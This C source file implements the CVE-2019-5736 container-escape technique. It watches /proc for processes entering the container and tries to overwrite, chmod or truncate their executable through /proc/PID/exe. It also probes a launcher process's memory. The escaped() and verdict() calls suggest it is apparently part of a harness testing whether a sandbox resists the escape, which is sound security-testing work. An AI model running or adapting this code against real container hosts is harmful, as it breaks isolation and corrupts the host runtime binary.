// CVE-2019-5736: opens the program of whoever enters the container, through /proc/PID/exe, and writes into it. Looks at
// every process that appears for as long as it is told, and at init; with the argument "exe" it is itself what the
// runtime was asked to start.
#include <dirent.h>
#include <sys/stat.h>
#include <time.h>

#include "attack.h"

static ino_t own_inode;
static dev_t own_device;
static long seen;

static void overwrite(const char* path) {
  struct stat info;
  if (stat(path, &info) != 0) return;
  if (info.st_ino == own_inode && info.st_dev == own_device) return;
  ++seen;
  // Opened for reading first, as the exploit does: a program that runs is busy for writers until it ends.
  const int handle = open(path, O_PATH | O_CLOEXEC);
  if (handle < 0) return;
  char again[64];
  snprintf(again, sizeof again, "/proc/self/fd/%d", handle);
  static const int kModes[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND};
  for (int tries = 0; tries < 100; ++tries) {
    const int writer = open(again, kModes[tries % 4] | O_CLOEXEC);
    if (writer >= 0) {
      if (write(writer, "#!/bin/sh\n", 10) > 0) escaped("%s was written", path);
      close(writer);
    }
    if (chmod(again, 0777) == 0) escaped("%s changed its mode", path);
    if (truncate(again, 0) == 0) escaped("%s was cut", path);
  }
  close(handle);
}

int main(int count, char** arguments) {
  struct stat own;
  if (stat("/proc/self/exe", &own) != 0) return 2;
  own_inode = own.st_ino;
  own_device = own.st_dev;
  if (count < 2) return 2;
  const time_t end = time(NULL) + atoi(arguments[1]);
  printf("watching\n");
  fflush(stdout);
  while (time(NULL) < end) {
    DIR* processes = opendir("/proc");
    if (processes == NULL) return 2;
    for (const struct dirent* entry = readdir(processes); entry != NULL; entry = readdir(processes)) {
      if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid()) continue;
      char path[300];
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      overwrite(path);
      snprintf(path, sizeof path, "/proc/%s/mem", entry->d_name);
      const int memory = open(path, O_RDWR | O_CLOEXEC);
      // One's own later children are fair game; init and the launcher's children are not.
      if (memory >= 0) {
        char name[64] = {0};
        snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
        const int comm = open(path, O_RDONLY | O_CLOEXEC);
        if (comm >= 0 && read(comm, name, sizeof name - 1) > 0 && strstr(name, "launcher") != NULL) {
          escaped("memory of %s", name);
        }
        if (comm >= 0) close(comm);
        close(memory);
      }
    }
    closedir(processes);
  }
  printf("saw %ld foreign programs\n", seen);
  return verdict();
}
